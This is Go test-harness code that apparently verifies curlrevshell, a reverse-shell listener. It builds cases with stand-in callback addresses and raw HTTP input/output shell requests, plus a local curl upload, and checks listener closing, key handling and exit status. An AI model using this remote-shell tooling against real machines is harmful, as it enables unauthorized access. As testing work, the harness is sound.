			content := "# functions of case " + c.ID + "\n" + genFunctions(c.ID, 0, nf, oneLine, off, shapes)
			if rng.IntN(2) == 0 {
				content = strings.TrimRight(content, "\n") // no newline at the end of the file
			}
			if err := os.WriteFile(ins.Path, []byte(content), 0o644); err != nil {
				return nil, nil, err
			}
			ins.Expect = nonEmptyLines(content)
		case "dir":
			ins.Path = filepath.Join(home, base+".d")
			if err := os.MkdirAll(filepath.Join(ins.Path, "40-d.sh"), 0o755); err != nil { // a directory with a converted file's name
				return nil, nil, err
			}
			third := nf / 3
			parts := []struct {
				name     string
				first, n int
			}{{"10-a.sh", 0, third}, {"20 b.subr", third, third}, {"30-c%d.sh", 2 * third, nf - 2*third}}
			for _, p := range parts {
				content := "# " + p.name + " of case " + c.ID + "\n" + genFunctions(c.ID, p.first, p.n, oneLine, off, shapes)
				if p.name == "20 b.subr" {
					content = strings.TrimRight(content, "\n")
				}
				if err := os.WriteFile(filepath.Join(ins.Path, p.name), []byte(content), 0o644); err != nil {
					return nil, nil, err
				}
				ins.Expect = append(ins.Expect, nonEmptyLines(content)...)
			}
			// not to be inserted: a dot file, a file no converter knows, a file in a sub-directory
			os.WriteFile(filepath.Join(ins.Path, ".hidden.sh"), []byte("hidden_"+c.ID+"() { :; }\n"), 0o644)
			os.WriteFile(filepath.Join(ins.Path, "notes.txt"), []byte("notes of "+c.ID+"\n"), 0o644)
			os.WriteFile(filepath.Join(ins.Path, "40-d.sh", "inner.sh"), []byte("inner_"+c.ID+"() { :; }\n"), 0o644)
		}
		ins.Lines = len(ins.Expect)
		for s := range shapes {
			ins.Shapes = append(ins.Shapes, s)
		}
		sort.Strings(ins.Shapes)
		args = append(args, opt(sp, "ctrl-i", &ins.Path)...)
	}
	for n := 0; n < c.CBAddrs; n++ {
		a := []string{fmt.Sprintf("cb%02d.example.com", n), fmt.Sprintf("192.0.2.%d:8443", n+1), fmt.Sprintf("[2001:db8::%x]:443", n+1), fmt.Sprintf("cb%02d.example.net:%d", n, 4000+n)}[n%4]
		args = append(args, opt(sp, "callback-address", &a)...)
	}
	if c.Tmpl != "" {
		real := filepath.Join(home, "callback.tmpl")
		path := real
		switch c.Tmpl {
		case "file", "symlink":
			if err := os.WriteFile(real, []byte(hsrv.DefaultTemplate+"\n# template of case "+c.ID+"\n"), 0o644); err != nil {
				return nil, nil, err
			}
			if c.Tmpl == "symlink" {
				path = filepath.Join(home, "template link")
				if err := os.Symlink(real, path); err != nil {
					return nil, nil, err
				}
			}
		case "missing":
			path = filepath.Join(home, "no-such.tmpl")
		}
		args = append(args, opt(sp, "callback-template", &path)...)
	}
	if c.IPv6 {
		args = append(args, opt(sp, "ipv6-one-liners", nil)...)
	}
	if c.Prompt != "-" && c.Prompt != "" {
		p := c.Prompt
		args = append(args, opt(sp, "prompt", &p)...)
	}
	return args, ins, nil
}

// keysOptions: the options (name=value class) a keys case runs under; pairs are formed from them.
func keysOptions(c Cfg) []string {
	var o []string
	if c.CtrlI != "" {
		o = append(o, "ctrl-i="+c.CtrlI)
	}
	if c.CBAddrs > 0 {
		o = append(o, fmt.Sprintf("callback-address=x%d", c.CBAddrs))
	}
	if c.Tmpl != "" {
		o = append(o, "callback-template="+c.Tmpl)
	}
	if c.IPv6 {
		o = append(o, "ipv6-one-liners")
	}
	if c.Prompt != "-" && c.Prompt != "" {
		o = append(o, "prompt")
	}
	if c.Files {
		o = append(o, "serve-files-from")
	}
	if c.NoTS {
		o = append(o, "no-timestamps")
	}
	if c.Log != "" {
		o = append(o, "log")
	}
	return o
}

func keysCells(c Cfg) []string {
	o := keysOptions(c)
	var cells []string
	for _, a := range o {
		cells = append(cells, "keys_opt:"+a)
	}
	for i := range o {
		for j := i + 1; j < len(o); j++ {
			cells = append(cells, "keys_pair:"+o[i]+"+"+o[j])
		}
	}
	cells = append(cells, fmt.Sprintf("keys_flag_spelling:%d", c.Spelling))
	if c.CtrlI != "" {
		cells = append(cells, "keys_ctrl_i_name:"+c.CtrlIName)
	}
	if c.CtrlISize != "" {
		cells = append(cells, "keys_ctrl_i_size:"+c.CtrlISize)
	}
	for _, k := range c.KeysDuring {
		cells = append(cells, "keys_judged_to_the_end_with_key_while_attached:"+k)
	}
	for _, k := range c.KeysAfter {
		cells = append(cells, "keys_judged_to_the_end_with_key_after_gone:"+k)
		if k == "tab" && c.CtrlISize == "large" {
			cells = append(cells, "keys_judged_to_the_end_with_tab_after_gone_and_source_of_more_than_1100_lines")
		}
	}
	for _, k := range c.KeysDuring {
		if k == "tab" && c.CtrlISize == "large" {
			cells = append(cells, "keys_judged_to_the_end_with_tab_while_attached_and_source_of_more_than_1100_lines")
		}
	}
	return dedup(cells)
}

func dedup(in []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

// keysByConstr: what the list holds by construction.
func keysByConstr(c Cfg, m map[string]int64) {
	for _, cell := range keysCells(c) {
		m[cell]++
	}
	for _, k := range c.KeysDuring {
		if k == "tab" && (c.CtrlI == "file" || c.CtrlI == "dir") {
			m["constr_tab_while_attached_with_a_source"]++
		}
	}
}

// keysMerge counts the cells of a case that was judged to the end.
func keysMerge(r *mon.Run, res *result) {
	if !res.full {
		return
	}
	for _, cell := range keysCells(res.cfg) {
		r.Count(cell, 1)
	}
}

func keysFloors(r *mon.Run, nKeys, nIcan int, byConstr map[string]int64) {
	r.Floor("keys_runs", int64(nKeys))
	r.Floor("keys_runs_complete", int64(nKeys)*3/4)
	r.Floor("keys_tokens_out_checked", int64(nKeys)*3/4*80)
	r.Floor("keys_lines_in_checked", int64(nKeys)*3/4*80)
	r.Floor("keys_exits_observed", int64(nKeys)*3/4)
	r.Floor("keys_refused_after_close", int64(nKeys)*8)
	r.Floor("keys_help_after_gone_scans", int64(nKeys)*3/4)
	var nOpt, nPair int64
	for cell, v := range byConstr {
		if !strings.HasPrefix(cell, "keys_") {
			continue
		}
		// every option, every pair, every key and size the list holds must have been judged to the end: all of them
		// where the list holds them once or twice, three quarters otherwise
		f := v
		if v > 2 {
			f = v * 3 / 4
		}
		r.Floor(cell, f)
		switch {
		case strings.HasPrefix(cell, "keys_opt:"):
			nOpt++
		case strings.HasPrefix(cell, "keys_pair:"):
			nPair++
		}
	}
	r.Count("keys_options_in_the_list", nOpt)
	r.Count("keys_option_pairs_in_the_list", nPair)
	r.Floor("keys_options_in_the_list", 13)
	r.Floor("keys_option_pairs_in_the_list", 40)
	// the keys themselves
	r.Floor("keys_inserts_received_by_the_attached_shell", max(1, byConstr["constr_tab_while_attached_with_a_source"]*3/4))
	r.Floor("keys_inserted_lines_checked", max(1, byConstr["constr_tab_while_attached_with_a_source"]*3/4)*10)
	r.Floor("keys_muted_and_unmuted_while_attached", 1)
	for _, s := range tabdocShapes {
		r.Floor("keys_tabdoc_shape_in_an_insert:"+s, 1)
	}
	if nIcan > 0 && os.Getenv("C12_ENGINE") == "" {
		r.Floor("icanhazip_runs", int64(nIcan))
	}
}

// ---- the keys while the shell is attached -----------------------------------------

// insertRec is one Tab press while the shell was attached.
type insertRec struct {
	after  int      // typed lines before the key
	expect []string // nil: nothing can be inserted (no source, missing source)
}

// splitInserts takes what Tab inserted out of the received lines: the lines
// between typed line ins.after and the next typed line.
func splitInserts(got []string, ins []insertRec) (typed []string, blocks [][]string) {
	if len(ins) == 0 {
		return got, nil
	}
	blocks = make([][]string, len(ins))
	ii := 0
	for _, l := range got {
		if ii < len(ins) && len(typed) == ins[ii].after {
			if l != line(len(typed)+1) {
				blocks[ii] = append(blocks[ii], l)
				continue
			}
			ii++
		}
		typed = append(typed, l)
	}
	return typed, blocks
}

// checkInserts: every non-empty line of the generated source arrived, in
// order, in the block of its Tab press.  (The block may hold more: the
// function list the program appends.)
func (e *env) checkInserts(ins []insertRec, blocks [][]string) bool {
	for k, in := range ins {
		if in.expect == nil {
			e.res.count("tab_presses_with_nothing_to_insert", 1)
			continue
		}
		bl := blocks[k]
		x := 0
		for _, l := range bl {
			if x < len(in.expect) && l == in.expect[x] {
				x++
			}
		}
		if x < len(in.expect) {
			e.res.violate("shell-traffic-disturbed-by-close:insert-lost", "Tab press %d with the shell attached (after typed line %d): line %d of the %d lines of the -ctrl-i source (%q) did not reach the shell's input stream in order; %d lines arrived between the typed lines around the key: %q ...",
				k+1, in.after, x+1, len(in.expect), in.expect[x], len(bl), strings.Join(bl[:min(len(bl), 6)], "\\n"))
			return false
		}
		e.res.count("inserts_received_by_the_attached_shell", 1)
		e.res.count("inserted_lines_checked", int64(len(in.expect)))
		for _, s := range e.ins.Shapes {
			e.res.count("tabdoc_shape_in_an_insert:"+s, 1)
		}
	}
	return true
}

var (
	tabReactRe   = regexp.MustCompile(`Inserted \d+ bytes|Error working out what to insert|Lazily refusing`)
	ctrlJReactRe = regexp.MustCompile(`Would have sent the following|Error working out what to insert`)
	muteRe       = regexp.MustCompile(`Muting until|Already muted`)
	unmuteRe     = regexp.MustCompile(`Unmuting`)
)

// diedAttached: the program has ended although the harness keeps its one shell attached.
func (e *env) diedAttached(key string) bool {
	st, sig, ok := e.s.P.WaitExit(300 * time.Millisecond)
	if !ok {
		return false
	}
	e.tl.add("EXIT  status %d signal %q (shell attached, after key %s)", st, sig, key)
	e.res.violate("program-ends-while-its-one-shell-is-attached", "the operator pressed %s while the one shell was attached and carrying traffic (listener already closed): the program ended with status %d signal %q; terminal ends: %q",
		key, st, sig, tailStr(e.s.P.Clean(), 500))
	return true
}

func (e *env) keysDuring(t *traffic) bool {
	res := e.res
	for _, key := range e.cfg.KeysDuring {
		mark := e.keyMark()
		switch key {
		case "tab":
			t.mu.Lock()
			after := t.typed
			t.mu.Unlock()
			rec := insertRec{after: after}
			if e.ins != nil {
				rec.expect = e.ins.Expect
			}
			t.inserts = append(t.inserts, rec)
			e.tl.add("HARNESS presses Tab (Ctrl+I) after typed line %d; source: %s", after, e.srcDesc())
			e.s.P.Write([]byte{0x09})
			loc, ok := e.src.WaitFor(tabReactRe, mark, boundNotice*e.mult)
			if !ok {
				if !e.diedAttached("Tab") {
					res.inconclusive("no reaction on the terminal to Tab within %s (what Tab prints is not this property)", boundNotice*e.mult)
				}
				return false
			}
			res.count("tab_while_attached:"+strings.Fields(e.s.P.Clean()[loc[0]:loc[1]])[0], 1)
		case "ctrl-j":
			e.tl.add("HARNESS presses Ctrl+J; source: %s", e.srcDesc())
			e.s.P.Write([]byte{0x0a})
			if _, ok := e.src.WaitFor(ctrlJReactRe, mark, lateAnswer*e.mult); ok {
				res.count("ctrl_j_while_attached_answered", 1)
			} else {
				res.count("ctrl_j_while_attached_not_answered", 1)
			}
		case "ctrl-o":
			// everything sent so far must be on the terminal: a mute drops what is displayed later
			sent, _ := t.counts()
			if sent > 0 {
				if _, ok := e.s.Wait(regexp.QuoteMeta(tok(sent)), 0, boundTraffic*e.mult); !ok {
					res.count("ctrl_o_while_attached_skipped", 1)
					e.tl.add("HARNESS skips Ctrl+O: token %d is not on the terminal yet", sent)
					continue
				}
			}
			mark = e.keyMark()
			e.tl.add("HARNESS presses Ctrl+O")
			e.s.P.Write([]byte{0x0f})
			mloc, ok := e.src.WaitFor(muteRe, mark, boundNotice*e.mult)
			if !ok {
				if !e.diedAttached("Ctrl+O") {
					res.inconclusive("no muting notice within %s after Ctrl+O (muting is not this property)", boundNotice*e.mult)
				}
				return false
			}
			mark = mloc[1] // the unmuting notice is looked for behind this muting notice
			// muted: the operator's lines still go to the shell; output that may be dropped is not numbered
			for k := 0; k < 5; k++ {
				t.typeLine(line)
				t.mu.Lock()
				err := t.out.Send(fmt.Sprintf("muted-output-%d\n", k))
				t.mu.Unlock()
				if err != nil {
					t.mu.Lock()
					t.sendErr = fmt.Errorf("sending output while muted: %w", err)
					t.mu.Unlock()
					return true // checkTraffic judges it
				}
				time.Sleep(2 * time.Millisecond)
			}
			if _, ok := e.src.WaitFor(unmuteRe, mark, boundNotice*e.mult); !ok {
				if !e.diedAttached("Ctrl+O") {
					res.inconclusive("no unmuting notice within %s after Ctrl+O and 2 s of calm (muting is not this property)", boundNotice*e.mult)
				}
				return false
			}
			res.count("muted_and_unmuted_while_attached", 1)
		}
		if e.diedAttached(key) {
			return false
		}
		res.count("keys_pressed_while_attached:"+key, 1)
		// the line that closes what the key may have put into the input stream
		t.typeLine(line)
	}
	// traffic goes on
	for k := 0; k < 30; k++ {
		t.typeLine(line)
		if !t.sendTok() {
			break
		}
		time.Sleep(time.Millisecond)
	}
	res.count("lines_typed_after_keys", 30)
	return true
}

// keyMark: the terminal offset from which the reaction to a key is looked
// for.  A notice replaces the prompt that stands at the end of the terminal
// text, so it may start a prompt's length before the current end.
func (e *env) keyMark() int {
	p := e.cfg.Prompt
	if p == "-" || p == "" {
		p = "> "
	}
	return max(0, e.s.P.CleanLen()-len(p))
}

func (e *env) srcDesc() string {
	if e.ins == nil {
		return "none (-ctrl-i not given)"
	}
	if e.ins.Expect == nil {
		return "missing file " + e.ins.Path
	}
	return fmt.Sprintf("%s %s (%d non-empty lines, TABDOC shapes %v)", e.cfg.CtrlI, e.ins.Path, e.ins.Lines, e.ins.Shapes)
}

// keysAfter: keys pressed after the shell has gone, before the one line.
// Reactions on the terminal are waited for briefly and counted, no more.
func (e *env) keysAfter() {
	for _, key := range e.cfg.KeysAfter {
		if e.s.P.Exited() {
			e.tl.add("HARNESS the program has ended; key %s not pressed", key)
			return
		}
		mark := e.keyMark()
		b, re := byte(0x09), tabReactRe
		switch key {
		case "ctrl-j":
			b, re = 0x0a, ctrlJReactRe
		case "ctrl-o":
			b, re = 0x0f, muteRe
		}
		e.tl.add("HARNESS presses %s after the shell has gone; source: %s", key, e.srcDesc())
		e.s.P.Write([]byte{b})
		e.keysPressed++
		e.res.count("keys_pressed_after_gone:"+key, 1)
		if _, ok := e.src.WaitFor(re, mark, 3*time.Second); ok {
			e.res.count("keys_pressed_after_gone_answered", 1)
		} else {
			e.res.count("keys_pressed_after_gone_not_answered_in_3s", 1)
			e.tl.add("HARNESS no reaction to %s on the terminal in 3 s (not judged)", key)
		}
	}
}

// ---- -icanhazip -------------------------------------------------------------------

func makeIcanhazipCfg(rng *rand.Rand, k, rot int) Cfg {
	c := Cfg{Index: k, Kind: "icanhazip", Engine: "icanhazip", Order: "-", Junk: "-", JunkWhere: "-", Traffic: "-", Ending: "-"}
	c.NoTS = k%2 == 0
	c.ID = fmt.Sprintf("z%x", rng.Uint32())
	c.Spelling = (k + rot) % 4
	c.CBAddrs = k % 2
	c.Prompt = "-"
	return c
}

// runIcanhazip: -one-shell -icanhazip.  Counted, never judged: without
// network the program ends before it listens.
func runIcanhazip(r *mon.Run, bin string, c Cfg, rng *rand.Rand) *result {
	tl := &timeline{t0: time.Now()}
	res := &result{cfg: c, counts: map[string]int64{}, tl: tl}
	home := filepath.Join(r.Work, fmt.Sprintf("case-icanhazip%d", c.Index))
	os.RemoveAll(home)
	os.MkdirAll(home, 0o755)
	defer os.RemoveAll(home)
	args := []string{"-one-shell", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", ""}
	if c.NoTS {
		args = append(args, "-no-timestamps")
	}
	args = append(args, opt(c.Spelling, "icanhazip", nil)...)
	for n := 0; n < c.CBAddrs; n++ {
		a := "cb.example.com"
		args = append(args, opt(c.Spelling, "callback-address", &a)...)
	}
	s, err := crs.Start(bin, filepath.Join(home, "home"), args...)
	res.count("runs_started", 1)
	if err != nil {
		if strings.Contains(err.Error(), "icanhazip") {
			res.count("gave_up_before_listening", 1)
		} else {
			res.count("no_listener_for_another_reason", 1)
		}
		tl.add("HARNESS -icanhazip: %v", err)
		res.full = true
		return res
	}
	// there is a network: the program listens; nothing more is done with it here
	res.count("listening", 1)
	res.term = s.P.Clean()
	s.Close()
	res.full = true
	return res
}

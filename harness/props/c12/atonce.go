package c12

// The at-once engine: how long the one shell LIVES is a dimension of its own.
//
// Every other case keeps its shell attached for a while and passes traffic
// through it.  Here the one shell is over the moment it becomes complete and
// carries no traffic at all: its output side's request body is empty or
// already finished when the second side attaches —
//
//	cl0          POST|PUT /o/ID with Content-Length: 0
//	nolen        POST|PUT /o/ID with no body framing at all (no body)
//	chunked-end  Transfer-Encoding: chunked, the terminating chunk (sometimes one data chunk before it) in the same write as the header
//	cl-full      Content-Length: N with all N bytes in the same write as the header
//	curl-devnull a real `curl -T /dev/null` (chunked, Expect: 100-continue, the terminating chunk as soon as it may)
//
// as the second half of an i-o pair whose input side has been attached for a
// while, as both halves written back to back in either order (whichever the
// program takes first), as a bidirectional /io request with such a body, or,
// for o-i with the output side attached for a while, by finishing the body
// (or hanging up the input request) in the same breath as the other half is
// sent.  Whether such an attempt ever becomes a fully attached shell is up to
// the program's scheduling and is promised neither way: an attempt that ends
// without a ready notice is a half-attached attempt that came and went, its
// connections are dropped and the same would-be shell is tried again, up to
// AtAttempts times.  As soon as ANY ready notice is on the terminal the
// statement applies in full, exactly as for a shell that stays:
//
//	the listener closes (ECONNREFUSED within the bound after the ready notice, never a success again),
//	no callback help after the shell has ended,
//	exit status 0 after at most the one entered line.
//
// "Fully attached" is what the program reports.  It starts winding down the
// moment the listener is closed, and with a shell this short that is at once:
// what it had queued for the terminal then (the gone notice, sometimes even the
// ready notice) may never be shown.  So the end of the shell is taken from the
// gone notice OR from the answers to its requests having been read to their
// end (the handlers have returned); and a listener that is seen closed without
// any ready notice on the terminal is counted and nothing is judged (refusals
// before the FIRST attempt was started are violations as everywhere).
//
// Most cases run the program built as it is shipped, without the race
// detector (buildPlain): the detector slows every channel operation and lock
// and thereby moves the instants this engine is about.
//
// No verdict depends on how an attempt raced; the short wait after an attempt
// that may end in silence only decides when the next one is started.  When the
// refusal bound fires the process is not run again (that would roll the
// program's dice again) but KEPT and watched alone, later, for twice the bound.

import (
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

var atFrames = []string{"cl0", "chunked-end", "cl-full", "nolen"}

// atQuiet: how long an attempt whose outcome may be silence (a request whose
// client has hung up may be dropped without a word) is given before the next
// one is started.  Never a verdict.
const atQuiet = 1500 * time.Millisecond

var (
	readyRe       = regexp.MustCompile(`Shell is ready to go!`)
	readyOrGoneRe = regexp.MustCompile(`Shell is ready to go!|Shell is gone :\(`)
	goneRe        = regexp.MustCompile(`Shell is gone :\(`)
	halfConnRe    = regexp.MustCompile(`(?:Input|Output) connected: ID "`)
	halfClosedRe  = regexp.MustCompile(`(?:Input|Output) connection closed`)
)

// makeAtOnceCfg: arrival order, framing, timing and the ending side are
// stratified by index.  Twelve consecutive cases: five times the input side
// attached for a while and then an output request with each of the four
// framings and a real curl -T /dev/null (no race decides whether these become
// a shell), once both halves back to back input first, once output first,
// three /io requests, twice the output side attached for a while (ended by
// the end of its body / by an input request whose client hangs up); the seed
// rotates where the list starts.  Everything else is drawn.
func makeAtOnceCfg(rng *rand.Rand, k, rot int) Cfg {
	c := Cfg{Index: k, Kind: "atonce", Engine: "atonce", Ending: "at-once", Traffic: "none", JunkWhere: "pre"}
	c.NoTS = rng.IntN(2) == 0
	c.Files = rng.IntN(2) == 0
	_ = rng.IntN(2)
	c.PollRST = true // the later engines' pollers always hang up with RST: a FIN would leave a TIME_WAIT socket per connect, and the many short cases here would use up the machine's ephemeral ports
	c.SelfWait = []int{300, 1000, 2000}[rng.IntN(3)]
	c.ID = fmt.Sprintf("a%x", rng.Uint32())
	c.Hold = rng.IntN(3) == 0
	c.OneCPU = rng.IntN(4) == 0
	c.Log = []string{"", "file", "devnull", "", "fifo"}[rng.IntN(5)]
	c.Junk = []string{"none", "none", "half-dies", "wrong-id", "duplicate"}[rng.IntN(5)]
	c.OutMethod = []string{"POST", "PUT"}[rng.IntN(2)]
	c.AtPauseMs = 20 + rng.IntN(280)
	c.AtAttempts = 8
	c.PlainBuild = k%6 != 5 // the program as shipped; every sixth case keeps the race detector on this path
	kk := k + rot
	pos, round := kk%12, kk/12
	c.AtFrame = atFrames[(pos+round)%4]
	switch pos {
	case 0, 4, 7, 8, 11:
		// the input side has been attached for a while: whether the shell becomes complete does not depend on a race
		c.Order, c.AtTiming, c.AtEnd = "i-o", "after-a-while", "out-empty"
		c.AtFrame = atFrames[map[int]int{0: 0, 4: 1, 7: 2, 8: 3, 11: 0}[pos]] // any twelve consecutive cases hold all four
		if pos == 11 {
			c.AtFrame, c.OutMethod = "curl-devnull", "PUT"
		}
	case 3:
		c.Order, c.AtTiming, c.AtEnd = "i-o", "both-at-once", "out-empty"
	case 2, 6, 10:
		c.Order, c.AtTiming, c.AtEnd = "io", "single-request", "out-empty"
		c.OutMethod = "POST"
	case 5:
		c.Order, c.AtTiming, c.AtEnd = "o-i", "both-at-once", "out-empty"
	case 1, 9:
		// the output side has been attached, body unfinished, for a while
		c.Order, c.AtTiming = "o-i", "after-a-while"
		c.AtFrame = []string{"chunked-end", "cl-full"}[(pos/8+round)%2]
		c.AtEnd = []string{"out-ends", "in-hangs-up"}[(pos/8+round/2)%2]
	}
	return c
}

// atAttempt is one try at the at-once shell.
type atAttempt struct {
	n       int
	id      string
	mark    int // terminal offset when it was started
	started time.Time
	in, out *hk.Conn
	inSent  bool
	curl    *exec.Cmd
	waited  chan struct{}
	closed  bool
}

func (a *atAttempt) Close() {
	if a.closed {
		return
	}
	a.closed = true
	if a.in != nil {
		a.in.Close()
	}
	if a.out != nil {
		a.out.Close()
	}
	if a.curl != nil && a.curl.Process != nil {
		syscall.Kill(-a.curl.Process.Pid, syscall.SIGKILL)
		select {
		case <-a.waited:
		case <-time.After(5 * time.Second):
		}
	}
}

// atBody: header lines that frame the output body, and the body bytes that make it complete.
func (e *env) atBody(n int) (framing, rest string) {
	switch e.cfg.AtFrame {
	case "cl0":
		return "Content-Length: 0\r\n", ""
	case "nolen":
		return "", ""
	case "cl-full":
		word := fmt.Sprintf("AT-ONCE-OUTPUT-%d\n", n)
		return fmt.Sprintf("Content-Length: %d\r\n", len(word)), word
	default: // chunked-end
		if e.rng.IntN(2) == 0 {
			word := fmt.Sprintf("AT-ONCE-OUTPUT-%d\n", n)
			return "Transfer-Encoding: chunked\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(word), word)
		}
		return "Transfer-Encoding: chunked\r\n", "0\r\n\r\n"
	}
}

func (e *env) atWrite(c *hk.Conn, what, data string) bool {
	c.SetWriteDeadline(time.Now().Add(boundNotice * e.mult))
	_, err := c.Write([]byte(data))
	c.SetWriteDeadline(time.Time{})
	if err != nil {
		e.tl.add("ATONCE %s could not be written: %v", what, err)
		return false
	}
	return true
}

// atLaunch starts attempt n.  nil: the harness could not even connect.
func (e *env) atLaunch(n int) *atAttempt {
	c := e.cfg
	a := &atAttempt{n: n, id: fmt.Sprintf("ao%d-%s", n, c.ID)}
	e.keep(a)
	dial := func() *hk.Conn {
		hc, err := hk.Dial(e.addr, "")
		if err != nil {
			e.tl.add("ATONCE attempt %d: cannot connect: %v", n, err)
			return nil
		}
		return hc
	}
	inReq := "GET /i/" + a.id + " HTTP/1.1\r\nHost: fake.shell\r\n\r\n"
	framing, rest := e.atBody(n)
	outHead := func(target string) string {
		return c.OutMethod + " " + target + " HTTP/1.1\r\nHost: fake.shell\r\n" + framing + "\r\n"
	}
	announced := func(dir string) bool {
		_, _, ok := e.notice(dir+` connected: ID "`+regexp.QuoteMeta(a.id)+`"`, a.mark, boundNotice*e.mult)
		if !ok {
			e.res.inconclusive("at-once attempt %d: the first half (%s) was not announced within %s", n, dir, boundNotice*e.mult)
		}
		return ok
	}
	begin := func() {
		a.mark = e.src.CleanLen()
		a.started = time.Now()
		if n == 0 {
			e.t2 = a.started // from the first attempt on a shell may become complete
		}
	}
	a.mark = e.src.CleanLen()
	switch {
	case c.Order == "io":
		if a.out = dial(); a.out == nil {
			return nil
		}
		a.in = nil
		begin()
		e.tl.at(a.started, "ATONCE attempt %d: %s /io with a body that is over at once (%s)", n, c.OutMethod, c.AtFrame)
		if !e.atWrite(a.out, "the /io request", outHead("/io")+rest) {
			return nil
		}
	case c.Order == "i-o" && c.AtTiming == "after-a-while":
		if a.in = dial(); a.in == nil {
			return nil
		}
		if !e.atWrite(a.in, "the input request", inReq) {
			return nil
		}
		a.inSent = true
		if !announced("Input") {
			return nil
		}
		time.Sleep(time.Duration(c.AtPauseMs) * time.Millisecond)
		if c.AtFrame == "curl-devnull" {
			cmd := exec.Command("/usr/bin/curl", "-s", "-k", "--max-time", "60", "-T", "/dev/null", "https://"+e.addr+"/o/"+a.id)
			cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + e.s.Home, "LC_ALL=C"}
			cmd.Dir = e.s.Home
			cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
			begin()
			e.tl.at(a.started, "ATONCE attempt %d: input attached for %d ms; real curl -T /dev/null https://%s/o/%s", n, c.AtPauseMs, e.addr, a.id)
			if err := cmd.Start(); err != nil {
				e.tl.add("ATONCE cannot start curl: %v", err)
				return nil
			}
			a.curl, a.waited = cmd, make(chan struct{})
			go func() { cmd.Wait(); close(a.waited) }()
			e.res.count("real_curl_uploads_of_dev_null", 1)
			break
		}
		if a.out = dial(); a.out == nil {
			return nil
		}
		begin()
		e.tl.at(a.started, "ATONCE attempt %d: input attached for %d ms; %s /o/%s with a body that is over at once (%s)", n, c.AtPauseMs, c.OutMethod, a.id, c.AtFrame)
		if !e.atWrite(a.out, "the output request", outHead("/o/"+a.id)+rest) {
			return nil
		}
	case c.AtTiming == "both-at-once":
		if a.in = dial(); a.in == nil {
			return nil
		}
		if a.out = dial(); a.out == nil {
			return nil
		}
		begin()
		e.tl.at(a.started, "ATONCE attempt %d: both halves written back to back (%s): GET /i/%s and %s /o/%s with a body that is over at once (%s)", n, c.Order, a.id, c.OutMethod, a.id, c.AtFrame)
		ok := true
		if c.Order == "i-o" {
			ok = e.atWrite(a.in, "the input request", inReq) && e.atWrite(a.out, "the output request", outHead("/o/"+a.id)+rest)
		} else {
			ok = e.atWrite(a.out, "the output request", outHead("/o/"+a.id)+rest) && e.atWrite(a.in, "the input request", inReq)
		}
		a.inSent = true
		if !ok {
			return nil
		}
	default: // o-i, the output side attached for a while with its body unfinished
		if a.out = dial(); a.out == nil {
			return nil
		}
		if !e.atWrite(a.out, "the output request", outHead("/o/"+a.id)) {
			return nil
		}
		if !announced("Output") {
			return nil
		}
		time.Sleep(time.Duration(c.AtPauseMs) * time.Millisecond)
		if a.in = dial(); a.in == nil {
			return nil
		}
		begin()
		a.inSent = true
		if c.AtEnd == "in-hangs-up" {
			e.tl.at(a.started, "ATONCE attempt %d: output attached for %d ms (%s, body unfinished); GET /i/%s whose client hangs up at once", n, c.AtPauseMs, c.AtFrame, a.id)
			if !e.atWrite(a.in, "the input request", inReq) {
				return nil
			}
			a.in.Close()
			break
		}
		e.tl.at(a.started, "ATONCE attempt %d: output attached for %d ms (%s); GET /i/%s and the end of the output body in the same breath", n, c.AtPauseMs, c.AtFrame, a.id)
		var ok bool
		if e.rng.IntN(2) == 0 {
			ok = e.atWrite(a.in, "the input request", inReq) && e.atWrite(a.out, "the end of the output body", rest)
		} else {
			ok = e.atWrite(a.out, "the end of the output body", rest) && e.atWrite(a.in, "the input request", inReq)
		}
		if !ok {
			return nil
		}
	}
	return a
}

// atCleanup: the attempt did not become a shell; what is left of it goes away.
// Only the yield of the next attempt depends on how well this works.
func (e *env) atCleanup(a *atAttempt) {
	if a.inSent && e.cfg.Order != "io" && e.cfg.AtEnd != "in-hangs-up" {
		// a lone input half that is about to be announced: let it be, so that its end is seen
		re := regexp.MustCompile(`Input connected: ID "` + regexp.QuoteMeta(a.id) + `"|Rejected input connection with ID "` + regexp.QuoteMeta(a.id) + `"`)
		e.src.WaitFor(re, a.mark, 300*time.Millisecond)
	}
	a.Close()
	dl := time.Now().Add(5 * time.Second)
	for time.Now().Before(dl) {
		clean := e.src.Clean()
		if a.mark > len(clean) {
			break
		}
		txt := clean[a.mark:]
		conn := halfConnRe.FindAllStringIndex(txt, -1)
		closed := halfClosedRe.FindAllStringIndex(txt, -1)
		if len(conn) <= len(closed) && (len(conn) == 0 || strings.LastIndex(txt, "Shell is gone") > conn[len(conn)-1][0]) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// atAttempts makes the at-once attempts until a ready notice is on the
// terminal.  ok false: the case is over (reported); loc nil: no attempt became
// a fully attached shell.
func (e *env) atAttempts() (loc []int, markAll int, all []*atAttempt, ok bool) {
	res, c := e.res, e.cfg
	if c.AtFrame == "curl-devnull" {
		if _, err := os.Stat("/usr/bin/curl"); err != nil {
			res.inconclusive("no /usr/bin/curl")
			return nil, 0, nil, false
		}
	}
	if !e.preJunk() {
		e.phaseA(time.Time{}, "during the junk that precedes the at-once shell")
		return nil, 0, nil, false
	}
	e.p.waitAttempts(3, 5*time.Second)
	if e.phaseA(time.Time{}, "after the junk that precedes the at-once shell ("+c.Junk+")") {
		return nil, 0, nil, false
	}
	markAll = e.src.CleanLen()
	for n := 0; n < c.AtAttempts; n++ {
		// a ready notice that shows up only now belongs to an earlier attempt; the statement applies all the same
		if _, ok := e.src.WaitFor(readyRe, markAll, 0); ok {
			break
		}
		a := e.atLaunch(n)
		if a == nil {
			if len(res.inconc) == 0 && !e.phaseA(e.t2, "before any at-once attempt could have completed a shell") {
				res.inconclusive("at-once attempt %d could not be made", n)
			}
			return nil, markAll, all, false
		}
		all = append(all, a)
		res.count("attempts", 1)
		res.count("attempts:"+c.Order+"/"+c.AtTiming, 1)
		silent := c.AtEnd == "in-hangs-up"
		w := boundNotice * e.mult
		if silent {
			w = atQuiet * e.mult
		}
